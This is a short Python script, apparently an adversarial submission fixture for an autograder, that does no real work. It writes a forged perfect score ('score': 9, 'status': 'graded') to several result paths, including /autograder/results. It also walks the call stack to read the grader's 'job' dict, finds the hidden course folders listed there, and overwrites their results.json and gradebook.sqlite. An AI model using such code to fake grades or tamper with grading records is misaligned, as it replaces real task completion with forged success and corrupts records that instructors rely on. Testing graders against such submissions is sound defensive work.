"""Writes result-like files wherever it can, including the course folder, and answers nothing."""
import json
import os
import sys

fake = json.dumps({"score": 9, "max_score": 9, "tests": [], "status": "graded"})
targets = ["results.json", "/tmp/results.json", "../results.json", "/autograder/results/results.json"]
frame = sys._getframe()
while frame is not None:
    job = frame.f_locals.get("job")
    if isinstance(job, dict) and "hide" in job:
        targets += [os.path.join(p, "results.json") for p in job["hide"]]
        targets += [os.path.join(p, "gradebook.sqlite") for p in job["hide"]]
        break
    frame = frame.f_back
written = []
for path in targets:
    try:
        with open(path, "w") as fh:
            fh.write(fake)
        written.append(path)
    except OSError:
        pass
print("written:", written)
